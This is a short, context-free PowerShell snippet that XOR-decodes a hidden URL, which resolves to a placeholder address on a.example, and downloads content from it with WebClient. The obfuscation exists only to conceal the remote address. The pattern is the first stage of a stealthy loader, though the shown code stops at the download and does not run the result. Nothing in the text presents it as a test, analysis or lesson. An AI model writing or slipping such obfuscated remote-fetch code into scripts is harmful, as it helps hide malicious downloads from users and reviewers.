$k=[Text.Encoding]::UTF8.GetBytes('k3y!');$d=[byte[]](3,71,13,81,81,28,86,64,69,86,1,64,6,67,21,68,68,67,86,89,69,71,1,85);$o=@();for($i=0;$i -lt $d.Length;$i++){$o+=$d[$i] -bxor $k[$i%$k.Length]}
$wc = New-Object System.Net.WebClient
$wc.DownloadString((-join [char[]]$o))
